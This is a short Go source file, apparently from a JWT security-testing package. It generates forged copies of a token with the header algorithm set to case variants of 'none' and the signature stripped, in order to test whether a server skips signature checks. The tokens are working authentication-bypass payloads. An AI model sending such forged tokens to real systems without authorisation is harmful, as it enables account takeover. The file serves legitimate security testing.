package jwtx

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"maps"
	"strings"
)

// NoneVariants returns the token re-encoded with header alg "none", "None",
// "NONE" and "nOnE" and an empty signature (the trailing dot kept), other
// header fields and the payload segment unchanged. A server that accepts
// any of them does not verify signatures (CWE-347, ASVS 9.1.2).
func NoneVariants(t *Token) []string {
	if t == nil {
		return nil
	}
	_, payload, _ := strings.Cut(t.SigningInput, ".")
	var out []string
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		h := maps.Clone(t.Header)
		if h == nil {
			h = map[string]any{}
		}
		h["alg"] = alg
		seg, err := encodeJSON(h)
		if err != nil {
			// Unreachable for a parsed header: it came from JSON.
			continue
		}
		out = append(out, seg+"."+payload+".")
	}
	return out
}

// encodeJSON marshals v as a base64url segment without HTML escaping, so a
// re-encoded header is no larger than needed.
func encodeJSON(v any) (string, error) {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return "", err
	}
	return base64.RawURLEncoding.EncodeToString(bytes.TrimSuffix(buf.Bytes(), []byte("\n"))), nil
}
